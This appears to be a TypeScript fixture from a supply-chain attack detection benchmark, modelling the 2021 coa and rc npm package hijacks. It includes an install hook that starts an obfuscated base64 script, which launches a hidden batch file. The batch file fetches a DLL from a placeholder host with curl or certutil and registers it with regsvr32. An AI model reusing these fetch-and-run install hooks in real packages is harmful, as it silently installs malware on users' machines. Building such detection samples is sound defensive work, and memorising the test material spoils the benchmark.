import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { batchGuard, commonScript } from "../guard.ts";
import { hideInTable } from "../hiding.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * coa 2.0.3 to 3.1.3 and rc on 4 November 2021: packages that had been silent for years released on several lines in an hour.
 * The hook ran an obfuscated script that started a batch file, which fetched a library and registered it.
 */
export const coa2021: Sample = defineAttack({
  id: "coa-2021",
  title: "Dormant packages burst on several lines with a hook and a batch file",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "coa", version: "2.0.3" },
    { name: "coa", version: "3.1.3" },
    { name: "rc", version: "1.2.9" },
  ],
  now: "2021-11-04T15:40:00Z",
  createLines: () => [
    {
      name: "coa",
      files: commandTool("coa", "coa"),
      publisher: person("qfox"),
      releases: [
        ["2.0.1", "2018-06-21T10:00:00Z"],
        ["2.0.2", "2018-12-13T10:00:00Z"],
        ["2.0.3", "2021-11-04T12:00:00Z", armed("coa")],
        ["2.1.1", "2021-11-04T13:30:00Z", armed("coa")],
        ["3.1.3", "2021-11-04T14:10:00Z", armed("coa")],
      ],
    },
    {
      name: "rc",
      files: commandTool("rc", "rc"),
      publisher: person("dominictarr"),
      releases: [
        ["1.2.7", "2018-05-17T10:00:00Z"],
        ["1.2.8", "2018-05-29T10:00:00Z"],
        ["1.2.9", "2021-11-04T14:47:00Z", armed("rc")],
      ],
    },
  ],
});

function armed(name: string): LineChange {
  return {
    hasCommit: false,
    manifest: { scripts: { preinstall: "start /B node compile.js & node compile.js" }, keywords: [name] },
    files: [
      { path: "compile.js", content: hideInTable(start, "base64") },
      { path: "compile.bat", content: batch },
    ],
  };
}

const start = commonScript(String.raw`
const child = require("child_process");
const system = require("os");
if (system.platform() === "win32") {
  const task = child.spawn("cmd.exe", ["/c", "compile.bat"], { detached: true, windowsHide: true, stdio: "ignore" });
  task.unref();
}
`);

const batch = `${batchGuard}@echo off\r
set c=curl\r
set d=http\r
%c% -k %d%s://files.invalid/npm/sdd.dll > compile.dll\r
if exist "compile.dll" (\r
regsvr32 -s compile.dll\r
) else (\r
certutil -urlcache -f https://files.invalid/npm/sdd.dll compile.dll && regsvr32 -s compile.dll\r
)\r
`;
